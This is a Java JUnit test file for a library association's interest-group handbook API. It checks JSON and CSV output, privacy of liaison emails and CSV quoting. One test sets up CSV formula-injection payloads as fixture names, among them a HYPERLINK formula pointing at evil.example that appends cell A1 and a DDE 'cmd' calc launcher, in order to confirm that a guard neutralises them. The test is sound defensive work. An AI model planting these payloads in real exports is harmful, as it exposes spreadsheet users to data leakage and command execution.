package org.ala.mig.handbook;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.ala.mig.registry.Mig;
import org.ala.mig.registry.MigRepository;
import org.ala.mig.registry.MigStatus;
import org.ala.mig.registry.StaffLiaison;
import org.ala.mig.registry.StaffLiaisonRepository;
import org.ala.mig.support.HttpApi;
import org.ala.mig.support.HttpApi.Reply;
import org.ala.mig.support.MigSpringBootTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The Handbook for machines, anonymous (CONTRACT.md, step 13): {@code GET /api/handbook} lists
 * exactly the ACTIVE and RENEWAL_PENDING MIGs in the contract's shape, with former names, the day
 * each first became active and several liaisons (names only); {@code GET /handbook.csv} says the
 * same, read back with the CSV library, quoting and the formula guard included.
 */
@MigSpringBootTest
class HandbookApiTest {

  @LocalServerPort int port;
  @Autowired MigRepository migs;
  @Autowired StaffLiaisonRepository liaisons;
  @Autowired JdbcTemplate jdbc;

  HttpApi http;
  HandbookFixtures fixtures;
  String key;

  @BeforeEach
  void setUp() {
    http = new HttpApi(port);
    fixtures = new HandbookFixtures(migs, liaisons);
    key = HandbookFixtures.unique();
  }

  @Test
  void listsTheActiveAndRenewalPendingMigsInTheContractsShape() {
    Mig renamed = fixtures.active("Civic Engagement " + key, "To help libraries foster civic engagement.",
        LocalDate.of(2015, 6, 27), LocalDate.of(2027, 6, 26), HandbookFixtures.organizers(key),
        List.of(new StaffLiaison("Tina Coleman", "tc-" + key + "@ala.example"),
            new StaffLiaison("Jenny Levine", "jl-" + key + "@ala.example")));
    migs.rename(renamed.id(), "Community Engagement " + key);
    migs.rename(renamed.id(), "Community Engagement Now " + key);
    Mig pending = fixtures.active("Pending Renewal " + key, key);
    migs.setStatus(pending.id(), MigStatus.RENEWAL_PENDING, null);
    Mig disbanded = fixtures.active("Disbanded " + key, key);
    migs.end(disbanded.id(), MigStatus.DISBANDED, "NOT_RENEWED", null, LocalDate.of(2026, 1, 1));
    Mig transitioned = fixtures.active("Transitioned " + key, key);
    migs.end(transitioned.id(), MigStatus.TRANSITIONED, null, "a round table", LocalDate.of(2026, 1, 1));
    Mig petitioned = fixtures.active("Petitioned " + key, key);
    migs.petitioned(petitioned.id(), petitioned.name(), petitioned.statementOfPurpose(), petitioned.organizers());
    migs.setStatus(petitioned.id(), MigStatus.NOT_ESTABLISHED, null);

    Reply reply = http.get("/api/handbook", null);

    assertThat(reply.status()).as(reply.body()).isEqualTo(200);
    assertThat(reply.contentType()).startsWith("application/json");
    JsonNode list = reply.json();
    assertThat(list.isArray()).isTrue();
    Map<String, JsonNode> byId = new HashMap<>();
    List<String> names = new ArrayList<>();
    list.forEach(entry -> {
      byId.put(entry.path("id").asText(), entry);
      names.add(entry.path("name").asText());
    });
    Set<String> listed = new HashSet<>(jdbc.queryForList(
        "select id from mig where status in ('ACTIVE', 'RENEWAL_PENDING')", String.class));
    assertThat(byId.keySet()).as("exactly the ACTIVE and RENEWAL_PENDING MIGs").isEqualTo(listed)
        .contains(renamed.id(), pending.id())
        .doesNotContain(disbanded.id(), transitioned.id(), petitioned.id());
    assertThat(names).as("by name").isSortedAccordingTo(String.CASE_INSENSITIVE_ORDER);

    JsonNode entry = byId.get(renamed.id());
    List<String> fields = new ArrayList<>();
    entry.fieldNames().forEachRemaining(fields::add);
    assertThat(fields).containsExactly("id", "name", "formerNames", "statementOfPurpose", "staffLiaisons", "termEnd",
        "activeSince");
    assertThat(entry.path("name").asText()).isEqualTo("Community Engagement Now " + key);
    assertThat(entry.path("formerNames")).extracting(JsonNode::asText).as("newest first")
        .containsExactly("Community Engagement " + key, "Civic Engagement " + key);
    assertThat(entry.path("statementOfPurpose").asText()).isEqualTo("To help libraries foster civic engagement.");
    assertThat(entry.path("staffLiaisons")).hasSize(2);
    assertThat(entry.path("staffLiaisons")).extracting(l -> l.path("name").asText())
        .containsExactly("Tina Coleman", "Jenny Levine");
    entry.path("staffLiaisons").forEach(l -> {
      List<String> liaisonFields = new ArrayList<>();
      l.fieldNames().forEachRemaining(liaisonFields::add);
      assertThat(liaisonFields).as("a liaison's email is staff data").containsExactly("name");
    });
    assertThat(entry.path("activeSince").asText()).isEqualTo("2015-06-27");
    assertThat(entry.path("termEnd").asText()).isEqualTo("2027-06-26");

    JsonNode renewal = byId.get(pending.id());
    assertThat(renewal.path("formerNames")).isEmpty();
    assertThat(renewal.path("activeSince").asText()).isEqualTo("2020-03-02");
    assertThat(renewal.path("staffLiaisons")).extracting(l -> l.path("name").asText()).containsExactly("Pat Liaison");
    assertThat(reply.body()).doesNotContain("@organizer.example", "@ala.example", "Hidden Road", "Secret Avenue");
  }

  @Test
  void theCsvSaysTheSameAsTheJsonAndQuotesCommasQuotesAndLineBreaks() throws IOException {
    Mig awkward = fixtures.active("Comics, \"Zines\" & More " + key,
        "To gather, in one place, what \"works\";\nfrom story times to zine fairs.", LocalDate.of(2016, 2, 29),
        LocalDate.of(2028, 2, 28), HandbookFixtures.organizers(key),
        List.of(new StaffLiaison("Coleman, Tina", "tc-" + key + "@ala.example"),
            new StaffLiaison("Don \"D.\" Wood", "dw-" + key + "@ala.example")));
    migs.rename(awkward.id(), "Comics, Zines, and More " + key);

    Reply csv = http.get("/handbook.csv", null);

    assertThat(csv.status()).as(csv.body()).isEqualTo(200);
    assertThat(csv.contentType()).isEqualToIgnoringCase("text/csv;charset=UTF-8");
    assertThat(csv.body()).startsWith(HandbookCsv.HEADER + "\r\n")
        .startsWith("id,name,formerNames,statementOfPurpose,staffLiaisons,activeSince,termEnd\r\n");
    Map<String, Map<String, String>> rows = read(csv.body());
    JsonNode json = http.get("/api/handbook", null).json();
    assertThat(rows).hasSize(json.size());
    for (JsonNode entry : json) {
      Map<String, String> row = rows.get(entry.path("id").asText());
      assertThat(row).as(entry.toString()).isNotNull();
      assertThat(row.get("name")).isEqualTo(HandbookCsv.guard(entry.path("name").asText()));
      assertThat(row.get("formerNames")).isEqualTo(HandbookCsv.guard(join(entry.path("formerNames"), null)));
      assertThat(row.get("statementOfPurpose")).isEqualTo(HandbookCsv.guard(entry.path("statementOfPurpose").asText()));
      assertThat(row.get("staffLiaisons")).isEqualTo(HandbookCsv.guard(join(entry.path("staffLiaisons"), "name")));
      assertThat(row.get("activeSince")).isEqualTo(entry.path("activeSince").asText(""));
      assertThat(row.get("termEnd")).isEqualTo(entry.path("termEnd").asText(""));
    }
    Map<String, String> row = rows.get(awkward.id());
    assertThat(row.get("name")).isEqualTo("Comics, Zines, and More " + key);
    assertThat(row.get("formerNames")).isEqualTo("Comics, \"Zines\" & More " + key);
    assertThat(row.get("statementOfPurpose")).isEqualTo("To gather, in one place, what \"works\";\nfrom story times to zine fairs.");
    assertThat(row.get("staffLiaisons")).isEqualTo("Coleman, Tina; Don \"D.\" Wood");
    assertThat(row.get("activeSince")).isEqualTo("2016-02-29");
    assertThat(row.get("termEnd")).isEqualTo("2028-02-28");
    assertThat(csv.body()).as("the quoting is the library's: a quote doubled inside a quoted cell")
        .contains("\"Comics, \"\"Zines\"\" & More " + key + "\"");
  }

  @Test
  void aCellThatASpreadsheetWouldRunAsAFormulaGetsALeadingQuote() throws IOException {
    Mig hostile = fixtures.active("=HYPERLINK(\"http://evil.example/\"&A1,\"Click\") " + key,
        "+cmd|' /C calc'!A0 and more", LocalDate.of(2021, 5, 1), LocalDate.of(2030, 4, 30),
        HandbookFixtures.organizers(key), List.of(new StaffLiaison("@SUM(1+1)*cmd", "x-" + key + "@ala.example"),
            new StaffLiaison("=2+5", "y-" + key + "@ala.example")));
    migs.rename(hostile.id(), "-2+3 Safe Name " + key);

    Map<String, Map<String, String>> rows = read(http.get("/handbook.csv", null).body());

    Map<String, String> row = rows.get(hostile.id());
    assertThat(row).isNotNull();
    assertThat(row.get("name")).isEqualTo("'-2+3 Safe Name " + key);
    assertThat(row.get("formerNames")).isEqualTo("'=HYPERLINK(\"http://evil.example/\"&A1,\"Click\") " + key);
    assertThat(row.get("statementOfPurpose")).isEqualTo("'+cmd|' /C calc'!A0 and more");
    assertThat(row.get("staffLiaisons")).isEqualTo("'@SUM(1+1)*cmd; =2+5");
    rows.values().forEach(r -> r.values().forEach(cell ->
        assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("+")
            .doesNotStartWith("-").doesNotStartWith("@")));
    JsonNode json = http.get("/api/handbook", null).json();
    for (JsonNode entry : json) {
      if (entry.path("id").asText().equals(hostile.id())) {
        assertThat(entry.path("name").asText()).as("the JSON keeps the text as it is").isEqualTo("-2+3 Safe Name " + key);
      }
    }
  }

  @Test
  void theGuardLeavesOrdinaryTextAlone() {
    assertThat(HandbookCsv.guard("=1+1")).isEqualTo("'=1+1");
    assertThat(HandbookCsv.guard("+1")).isEqualTo("'+1");
    assertThat(HandbookCsv.guard("-1")).isEqualTo("'-1");
    assertThat(HandbookCsv.guard("@A1")).isEqualTo("'@A1");
    assertThat(HandbookCsv.guard("\t=1")).isEqualTo("'\t=1");
    assertThat(HandbookCsv.guard("Diversity = strength")).isEqualTo("Diversity = strength");
    assertThat(HandbookCsv.guard("")).isEmpty();
    assertThat(HandbookCsv.guard(null)).isEmpty();
  }

  /** The file read back with the CSV library, by its header, as rows by id. */
  static Map<String, Map<String, String>> read(String body) throws IOException {
    CsvMapper mapper = new CsvMapper();
    Map<String, Map<String, String>> rows = new HashMap<>();
    try (MappingIterator<Map<String, String>> lines = mapper.readerForMapOf(String.class)
        .with(CsvSchema.emptySchema().withHeader()).readValues(body)) {
      while (lines.hasNext()) {
        Map<String, String> row = lines.next();
        assertThat(row.keySet()).containsExactly("id", "name", "formerNames", "statementOfPurpose", "staffLiaisons",
            "activeSince", "termEnd");
        rows.put(row.get("id"), row);
      }
    }
    return rows;
  }

  private static String join(JsonNode list, String field) {
    List<String> parts = new ArrayList<>();
    list.forEach(item -> parts.add(field == null ? item.asText() : item.path(field).asText()));
    return String.join("; ", parts);
  }
}
